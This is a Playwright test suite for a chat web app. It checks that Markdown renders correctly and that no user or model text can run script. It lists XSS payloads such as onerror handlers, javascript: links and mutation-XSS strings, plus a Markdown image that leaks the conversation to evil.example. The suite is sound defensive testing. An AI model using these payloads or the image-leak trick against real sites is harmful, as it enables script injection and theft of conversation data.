"""Markdown renders (also mid-stream) and no text, user's or model's, can run script."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.browser.chat import chat, last_reply, replies, send, wait_idle
from tests.browser.conftest import PageLog
from tests.upstream import Reply, ScriptedUpstream

pytestmark = pytest.mark.browser

MARKDOWN = """## Plan

Some **bold** and *italic* text, `inline code` and a [link](https://example.com/docs).

- apples
- pears

1. first
2. second

| name | qty |
|------|----:|
| tea  |   2 |
| 茶   |  10 |

```python
def greet(name: str) -> str:
    return f"hello {name}"
```
"""


def chunks(text: str, size: int) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def test_markdown_table_list_and_highlighted_code(app: Page, upstream: ScriptedUpstream) -> None:
    upstream.enqueue(Reply(deltas=chunks(MARKDOWN, 7), delay=0.01))
    chat(app, "Show me some markdown")
    reply = last_reply(app)
    expect(reply.locator("h2")).to_have_text("Plan")
    expect(reply.locator("strong")).to_have_text("bold")
    expect(reply.locator("ul > li")).to_have_text(["apples", "pears"])
    expect(reply.locator("ol > li")).to_have_text(["first", "second"])
    expect(reply.locator("table th")).to_have_text(["name", "qty"])
    expect(reply.locator("table td")).to_have_text(["tea", "2", "茶", "10"])
    expect(reply.locator(":not(pre) > code")).to_have_text("inline code")
    code = reply.locator(".code-block code")
    expect(code).to_have_class("hljs language-python")
    expect(code.locator(".hljs-keyword").first).to_have_text("def")
    expect(code.locator(".hljs-title")).to_have_text("greet")
    expect(reply.locator(".code-lang")).to_have_text("python")
    link = reply.locator("a")
    expect(link).to_have_attribute("href", "https://example.com/docs")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")
    # The user's own text is never rendered as Markdown.
    expect(app.locator(".msg-user .content")).to_have_text("Show me some markdown")


def test_markdown_renders_while_streaming(app: Page, upstream: ScriptedUpstream) -> None:
    upstream.enqueue(Reply(deltas=["# Title\n\n", "- one\n", "- two\n"] + ["."] * 40, delay=0.1))
    send(app, "stream markdown")
    expect(last_reply(app).locator("h1")).to_have_text("Title")
    expect(last_reply(app).locator("li")).to_have_count(2)
    expect(app.locator("#stop")).to_be_visible()  # still streaming
    wait_idle(app)


def test_copy_a_code_block(app: Page, upstream: ScriptedUpstream) -> None:
    app.context.grant_permissions(["clipboard-read", "clipboard-write"])
    upstream.enqueue(Reply(deltas=["Run:\n\n```sh\necho hi\n```\n"]))
    chat(app, "give me a command")
    last_reply(app).get_by_role("button", name="Copy code").click()
    expect(app.locator("#toast")).to_have_text("Copied")
    assert app.evaluate("navigator.clipboard.readText()") == "echo hi"


def test_images_from_other_origins_wait_for_a_click(
    app: Page, upstream: ScriptedUpstream, page_log: PageLog
) -> None:
    leak = "https://evil.example/collect?secret=the-conversation"
    upstream.enqueue(Reply(deltas=[f"Look: ![chart]({leak}) and ![local](/favicon.svg)"]))
    chat(app, "draw")
    reply = last_reply(app)
    placeholder = reply.get_by_role("button", name="Load image from evil.example")
    expect(placeholder).to_be_visible()
    expect(reply.locator("img")).to_have_count(1)  # the same-origin one
    expect(reply.locator("img")).to_have_attribute("src", "/favicon.svg")
    assert not page_log.foreign_requests
    # Only a click loads it: inline, or (when the page's CSP allows only its own
    # images, as Parlour's does) as a link that opens it in a new tab.
    placeholder.click()
    link = reply.locator(f'a[href="{leak}"]')
    expect(reply.locator(f'img[src="{leak}"]').or_(link)).to_have_count(1)
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    assert set(page_log.foreign_requests) <= {leak}


# Each payload sets window.__pwned if any script runs.
PAYLOADS = [
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=1</script>",
    '"><script>window.__pwned=1</script>',
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<a href="javascript:window.__pwned=1">click</a>',
    "[click](javascript:window.__pwned=1)",
    "[click](JaVaScRiPt:window.__pwned=1)",
    "[click](&#106;avascript:window.__pwned=1)",
    "[click](javascript&colon;window.__pwned=1)",
    "![x](javascript:window.__pwned=1)",
    "[x](data:text/html,<script>window.__pwned=1</script>)",
    '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>',
    '<body onload="window.__pwned=1">',
    '<input autofocus onfocus="window.__pwned=1">',
    '<object data="javascript:window.__pwned=1"></object>',
    '<embed src="javascript:window.__pwned=1">',
    '<form action="javascript:window.__pwned=1"><button>go</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<a href="https://ok.example" onmouseover="window.__pwned=1">hover</a>',
    "```html\n<script>window.__pwned=1</script>\n```",
    "`<img src=x onerror=window.__pwned=1>`",
]

CHECK_DOM = """() => {
  const area = document.querySelector("#messages");
  const all = [...area.querySelectorAll("*")];
  const bad = [];
  for (const el of all) {
    const tag = el.tagName.toLowerCase();
    if (["script", "iframe", "object", "embed", "form", "style", "math", "details"].includes(tag)) {
      bad.push("tag " + tag);
    }
    if (tag === "svg" && el.closest(".content")) bad.push("svg in content");
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) bad.push(tag + " " + attr.name);
      if (/^\\s*(javascript|vbscript|data:text)/i.test(attr.value.replace(/[\\s\\0]/g, ""))) {
        bad.push(tag + " " + attr.name + "=" + attr.value);
      }
    }
  }
  const pwned = typeof window.__pwned !== "undefined";
  return {bad, pwned};
}"""


def assert_inert(app: Page, page_log: PageLog) -> None:
    result = app.evaluate(CHECK_DOM)
    assert result["bad"] == []
    assert result["pwned"] is False
    assert page_log.dialogs == []


@pytest.mark.parametrize("size", [1, 4])
def test_xss_payloads_run_no_script(
    app: Page, upstream: ScriptedUpstream, page_log: PageLog, size: int
) -> None:
    """Every payload as user text, and as model text split into `size`-character deltas."""
    for payload in PAYLOADS:
        upstream.enqueue(Reply(deltas=chunks(f"Here: {payload} done", size)))
    for i, payload in enumerate(PAYLOADS):
        send(app, payload)
        expect(replies(app)).to_have_count(i + 1)
        wait_idle(app)
    # The user's text shows exactly as typed.
    expect(app.locator(".msg-user .content")).to_have_text(PAYLOADS)
    # Hover and click everything that could carry a handler or a link.
    for link in app.locator("#messages .content a").all():
        link.hover()
        assert not (link.get_attribute("href") or "").lower().startswith("javascript")
    app.wait_for_timeout(300)
    assert_inert(app, page_log)
    assert not page_log.foreign_requests
    assert not page_log.errors


def test_the_inertness_check_notices_a_planted_handler(app: Page, page_log: PageLog) -> None:
    """A control for the check above: it does see a handler or a javascript: link."""
    app.evaluate(
        """() => {
          const a = document.createElement("a");
          a.setAttribute("href", " javascript:void(0)");
          a.setAttribute("onclick", "x()");
          document.querySelector("#messages").append(a);
        }"""
    )
    with pytest.raises(AssertionError):
        assert_inert(app, page_log)
